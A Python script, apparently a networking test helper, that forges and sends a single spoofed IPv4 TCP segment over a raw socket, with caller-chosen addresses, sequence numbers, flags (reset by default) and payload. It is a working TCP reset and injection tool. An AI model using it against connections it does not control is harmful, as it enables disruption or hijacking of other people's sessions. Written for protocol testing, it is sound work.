#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Send one forged IPv4 TCP segment, as an attacker on the path would.

  tcp_inject.py SRC SPORT DST DPORT SEQ [--ack N] [--flags R|RA|A|...]
                [--data HEX] [--count N]

SEQ and --ack are absolute 32-bit sequence numbers (taken modulo 2^32).
The IP and TCP checksums are computed here; the segment leaves through a
raw socket (IPPROTO_RAW, so the IP header is ours) routed by DST.
"""

import argparse
import socket
import struct
import sys

FLAGS = {"F": 0x01, "S": 0x02, "R": 0x04, "P": 0x08, "A": 0x10}


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def segment(a):
    src = socket.inet_aton(a.src)
    dst = socket.inet_aton(a.dst)
    flags = 0
    for c in a.flags:
        flags |= FLAGS[c]
    data = bytes.fromhex(a.data)
    tcp = struct.pack("!HHIIBBHHH", a.sport, a.dport, a.seq % (1 << 32),
                      a.ack % (1 << 32), 5 << 4, flags, a.window, 0, 0)
    pseudo = struct.pack("!4s4sBBH", src, dst, 0, socket.IPPROTO_TCP,
                         len(tcp) + len(data))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp + data)) + tcp[18:]
    total = 20 + len(tcp) + len(data)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, 0x1234, 0, 64,
                     socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp + data


def main(argv):
    p = argparse.ArgumentParser(prog="tcp_inject.py")
    p.add_argument("src")
    p.add_argument("sport", type=int)
    p.add_argument("dst")
    p.add_argument("dport", type=int)
    p.add_argument("seq", type=int)
    p.add_argument("--ack", type=int, default=0)
    p.add_argument("--flags", default="R")
    p.add_argument("--window", type=int, default=0)
    p.add_argument("--data", default="")
    p.add_argument("--count", type=int, default=1)
    a = p.parse_args(argv)
    if any(c not in FLAGS for c in a.flags):
        p.error(f"--flags: letters of {''.join(FLAGS)}")
    pkt = segment(a)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for _ in range(a.count):
        s.sendto(pkt, (a.dst, 0))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
